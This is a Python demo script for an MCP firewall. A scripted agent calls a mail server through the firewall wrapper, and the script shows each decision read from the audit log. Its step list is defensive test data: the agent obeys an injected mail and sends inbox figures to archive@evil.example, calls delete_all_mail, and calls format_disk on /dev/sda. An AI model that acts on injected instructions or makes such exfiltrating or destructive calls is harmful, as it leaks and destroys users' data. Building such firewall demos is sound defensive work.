"""`mcp-firewall demo`: a scripted agent calls the demo server through `mcp-firewall wrap`.

Every step is a real MCP call over stdio through a real wrapper process; what is printed as the
firewall's decision is read back from the wrapper's audit log, not predicted.
"""

from __future__ import annotations

import json
import sys
import tempfile
from pathlib import Path
from typing import Any

import anyio
from mcp import Client
from mcp.client.stdio import StdioServerParameters
from rich.console import Console
from rich.table import Table

DEMO_CONFIG = """
[[rules]]
id = "demo.no-destructive"
tool = "delete_*"
action = "deny"
message = "destructive mailbox tools are not allowed for this agent"
"""

STEPS: list[tuple[str, str, dict[str, Any]]] = [
    ("Read the inbox (one mail carries an injection)", "read_inbox", {}),
    (
        "Write to an address the user gave",
        "send_email",
        {"to": "carol@partner.example", "subject": "Numbers", "body": "Revenue is up 12%."},
    ),
    (
        "Do what the injected mail says",
        "send_email",
        {
            "to": "archive@evil.example",
            "subject": "Fwd: inbox",
            "body": "Quarterly numbers: revenue is up 12%.",
        },
    ),
    ("A destructive tool, denied by a rule", "delete_all_mail", {}),
    ("A tool the server never listed", "format_disk", {"device": "/dev/sda"}),
]


def _new_records(path: Path, seen: int) -> tuple[list[dict[str, Any]], int]:
    lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
    return [json.loads(line) for line in lines[seen:]], len(lines)


async def _run(console: Console, workdir: Path) -> int:
    config, audit = workdir / "demo.toml", workdir / "audit.jsonl"
    config.write_text(DEMO_CONFIG, encoding="utf-8")
    wrapper = StdioServerParameters(
        command=sys.executable,
        args=[
            "-m",
            "firewall",
            "wrap",
            "--config",
            str(config),
            "--audit-log",
            str(audit),
            "--name",
            "inbox",
            "--",
            sys.executable,
            "-m",
            "firewall.demo.server",
        ],
    )
    table = Table(title="mcp-firewall demo: each call and what the firewall decided", show_lines=True)
    for column in ("step", "call", "firewall", "the agent received"):
        table.add_column(column, overflow="fold")
    blocked = 0
    with anyio.fail_after(60):
        async with Client(wrapper, mode="legacy") as client:
            tools = await client.list_tools()
            console.print(
                f"[bold]Server tools (through the wrapper):[/] {', '.join(t.name for t in tools.tools)}"
            )
            seen = _new_records(audit, 0)[1]
            for title, tool, arguments in STEPS:
                result = await client.call_tool(tool, arguments)
                text = " ".join(getattr(block, "text", "") for block in result.content)
                records, seen = _new_records(audit, seen)
                decisions = [
                    f"{r['kind']}: {r['decision']}"
                    + (f" ({', '.join(r['rule_ids'])})" if r["rule_ids"] else "")
                    for r in records
                ]
                denied = any(r["decision"] == "deny" for r in records)
                blocked += denied
                style = "bold red" if denied else "green"
                call = f"{tool}({json.dumps(arguments)})"
                table.add_row(
                    title, call, f"[{style}]" + "\n".join(decisions) + "[/]", " ".join(text.split())[:120]
                )
    console.print(table)
    console.print(
        f"{len(STEPS)} calls, {blocked} blocked. Audit log: every decision above came from {audit.name}."
    )
    return 0


def run_demo() -> int:
    console = Console(stderr=False)
    with tempfile.TemporaryDirectory(prefix="mcp-firewall-demo-") as tmp:
        return anyio.run(_run, console, Path(tmp))
